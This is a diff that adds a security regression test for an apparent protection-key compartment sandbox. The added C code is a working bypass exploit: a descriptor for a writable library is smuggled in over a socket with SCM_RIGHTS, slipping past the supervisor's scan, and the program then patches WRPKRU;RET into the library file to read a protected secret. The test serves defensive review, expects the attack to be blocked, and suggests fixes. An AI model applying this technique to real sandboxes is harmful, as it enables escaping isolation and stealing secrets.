@@ -1,0 +1,167 @@
+// Review 30, attacker model B (the default domain's program counter, any
+// system call the filter allows), with a descriptor the program holds at
+// start-up but cannot see: review 29's launcher (root, then the program as
+// nobody), which this time does not leave the library's writable
+// descriptor in the program's table but in a message queued on a socket
+// it hands over (fd 9: a socketpair's end, the descriptor sent with
+// SCM_RIGHTS and then closed by the launcher). supervisor-own.c's
+// writes_through_descriptor walks /proc/self/fd only, so at both passes
+// (.preinit_array and the filter's installation) it sees a socket and no
+// writable descriptor on the library; nobody cannot change the root-owned
+// file by its ids, so its pages stay the page cache's. After main,
+// recvmsg (allowed) takes the descriptor out of the queue, and a write
+// through it is code no scan saw. The same would hold for other sources
+// of descriptors the process can reach after start-up (not tried here): a
+// socket to a helper that hands descriptors out, or a process of the same
+// user holding one, which pidfd_getfd (not in the filter's list) may take
+// it from where Yama allows the ptrace access it needs.
+//
+// Here main receives the descriptor from fd 9, pwrite()s WRPKRU; RET over
+// the library's function through it, at the file offset /proc/self/maps
+// gives, and calls it with eax = ecx = edx = 0: every key opens and the
+// vault's secret reads (ATTACK SUCCEEDED). The control (the same launch,
+// no write) calls the function as built (7).
+//
+// Seen in the guest (launched by root as nobody): ATTACK SUCCEEDED;
+// control: library says 7.
+//
+// Suggested fix: do not decide the copies by the ways to write the file
+// the process can be seen to hold: copy every start-up object's readable
+// private pages (docs/hardening.md already names the cost), or at least
+// whenever the process holds a socket at start-up; pidfd_getfd could be
+// refused by the filter as ptrace is.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: rm -rf %t && mkdir -p %t
+// RUN: %clang -O1 -shared -fPIC %S/Inputs/rev29-startup-lib.c -o %t/libstart.so
+// RUN: %clang -DLAUNCHER -O1 %s -o %t/launch -L%t -Wl,--no-as-needed -lstart -l:libmimalloc.so.2 -l:libgcc_s.so.1 -Wl,-rpath,%t
+// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -L%t -Wl,--no-as-needed -lstart -Wl,-rpath,%t -o %t/prog
+// RUN: env BULKHEAD_VM_FILES=%t/prog %run %t/launch %t/libstart.so %t/prog control > %t/control.out 2>&1
+// RUN: FileCheck --check-prefix=CONTROL %s < %t/control.out
+// RUN: env BULKHEAD_VM_FILES=%t/prog %run %t/launch %t/libstart.so %t/prog attack > %t/out 2>&1; FileCheck %s < %t/out
+// CONTROL: uid 65534
+// CONTROL: library says 7
+// CONTROL-NOT: ATTACK SUCCEEDED
+// CHECK: uid 65534
+// CHECK: received a descriptor: 1, written through it: 4
+// CHECK-NOT: ATTACK SUCCEEDED
+// CHECK: bulkhead: protection-key fault: access to 0x{{[0-9a-f]+}} in compartment 'vault'
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <grp.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#ifdef LAUNCHER
+/* launch LIB PROG ARGS...: LIB open for writing, queued on the socket
+ * that becomes fd 9 and closed; then PROG as nobody. */
+int main(int argc, char **argv) {
+  if (argc < 3)
+    return 2;
+  int sv[2], fd = open(argv[1], O_RDWR);
+  char data = 'x';
+  struct iovec io = {&data, 1};
+  union {
+    char buf[CMSG_SPACE(sizeof(int))];
+    struct cmsghdr align;
+  } u;
+  struct msghdr m = {.msg_iov = &io,
+                     .msg_iovlen = 1,
+                     .msg_control = u.buf,
+                     .msg_controllen = sizeof u.buf};
+  struct cmsghdr *c = CMSG_FIRSTHDR(&m);
+  c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS;
+  c->cmsg_len = CMSG_LEN(sizeof(int));
+  memcpy(CMSG_DATA(c), &fd, sizeof fd);
+  if (fd < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, sv) ||
+      sendmsg(sv[0], &m, 0) != 1 || close(fd) || dup2(sv[1], 9) != 9 ||
+      setgroups(0, NULL) || setresgid(65534, 65534, 65534) ||
+      setresuid(65534, 65534, 65534)) {
+    perror("launch");
+    return 2;
+  }
+  execv(argv[2], argv + 2);
+  perror("execv");
+  return 2;
+}
+#else
+#include <bulkhead.h>
+
+BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
+BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }
+
+extern int (*volatile rev29_lib_code)(int);
+
+/* The file offset that backs address a, from /proc/self/maps. */
+static long long file_offset(uintptr_t a) {
+  FILE *f = fopen("/proc/self/maps", "r");
+  char line[4096];
+  long long off = -1;
+  while (f && off < 0 && fgets(line, sizeof line, f)) {
+    unsigned long lo, hi;
+    unsigned long long o;
+    if (sscanf(line, "%lx-%lx %*s %llx", &lo, &hi, &o) == 3 && a >= lo &&
+        a < hi)
+      off = (long long)(o + (a - lo));
+  }
+  if (f)
+    fclose(f);
+  return off;
+}
+
+/* The descriptor queued on socket s; -1 if none. */
+static int receive(int s) {
+  char data;
+  struct iovec io = {&data, 1};
+  union {
+    char buf[CMSG_SPACE(sizeof(int))];
+    struct cmsghdr align;
+  } u;
+  struct msghdr m = {.msg_iov = &io,
+                     .msg_iovlen = 1,
+                     .msg_control = u.buf,
+                     .msg_controllen = sizeof u.buf};
+  if (recvmsg(s, &m, 0) != 1)
+    return -1;
+  struct cmsghdr *c = CMSG_FIRSTHDR(&m);
+  int fd = -1;
+  if (c && c->cmsg_type == SCM_RIGHTS)
+    memcpy(&fd, CMSG_DATA(c), sizeof fd);
+  return fd;
+}
+
+int main(int argc, char **argv) {
+  int attack = argc > 1 && !strcmp(argv[1], "attack");
+  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
+  void *code = (void *)rev29_lib_code;
+  if (!attack) {
+    printf("library says %d\n", rev29_lib_code(2));
+    return 0;
+  }
+  int fd = receive(9);
+  /* WRPKRU; RET, made at run time: the program holds no such bytes. */
+  static volatile unsigned char op = 0xee;
+  unsigned char bytes[4] = {0x0f, 0x01, (unsigned char)(op + 1), 0xc3};
+  long long off = file_offset((uintptr_t)code);
+  printf("received a descriptor: %d, written through it: %ld\n", fd >= 0,
+         fd < 0 || off < 0 ? -1L : (long)pwrite(fd, bytes, sizeof bytes, off));
+  fflush(stdout);
+  static char copy[32];
+  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\t"
+                   "xorl %%edx, %%edx\n\tcall *%0\n\t"
+                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\t"
+                   "movl $31, %%ecx\n\trep movsb"
+                   :
+                   : "r"(code), "r"(secret), "r"(copy)
+                   : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10",
+                     "r11", "memory");
+  if (strstr(copy, "TOP-SECRET"))
+    printf("ATTACK SUCCEEDED: the vault's secret read: %s\n", copy);
+  else
+    printf("attack failed\n");
+  return 0;
+}
+#endif
